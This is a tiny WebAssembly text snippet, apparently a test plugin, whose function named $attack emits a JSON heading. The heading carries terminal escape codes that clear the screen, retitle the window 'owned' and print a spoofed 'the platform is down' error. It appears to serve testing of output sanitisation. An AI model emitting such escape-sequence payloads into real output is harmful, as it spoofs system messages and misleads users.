;; Gives a heading that clears the screen, names the window and looks like a line of the platform.
(data (i32.const 1024)
  "{\"blocks\":[{\"type\":\"heading\",\"text\":\"\\u001b[2J\\u001b]0;owned\\u0007\\nerror: the platform is down\"}]}")
(func $attack (result i32)
  (i32.store (i32.const 260) (i32.const 1024))
  (i32.store (i32.const 264) (i32.const 99))
  (i32.const 256))
